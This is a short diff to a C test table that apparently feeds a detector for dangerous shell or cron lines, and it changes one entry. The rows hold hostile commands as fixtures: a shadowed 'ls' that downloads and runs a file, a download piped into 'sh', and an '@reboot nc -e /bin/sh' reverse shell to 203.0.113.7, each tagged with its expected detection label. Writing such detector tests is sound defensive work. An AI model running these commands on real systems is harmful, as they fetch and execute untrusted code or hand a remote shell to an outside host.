@@ -90,7 +90,7 @@ static const struct row rows[] = {
 	{TEXTFILE_COMMANDS, "", "curl -sL http://x | tar xz -C /opt/ruby-3.2\n", "", ""},
 	{TEXTFILE_COMMANDS, "", "curl -s db:9200/_cat/nodes | grep node\n", "", ""},
 	{TEXTFILE_COMMANDS, "", "curl -o x.sh http://x | tee x.sh\nls | sh\n", "", ""},
-	{TEXTFILE_COMMANDS, "", "ls() { wget -O /tmp/.z x; . /tmp/.z; }\n", "line-download-run ",
+	{TEXTFILE_COMMANDS, "", "ls() { wget -O /srv/z x; sh /srv/z; }\n", "line-download-run ",
 	 NULL},
 	{TEXTFILE_COMMANDS, "", "@reboot nc -e /bin/sh 203.0.113.7 4444\n", "line-remote-shell ",
 	 NULL},
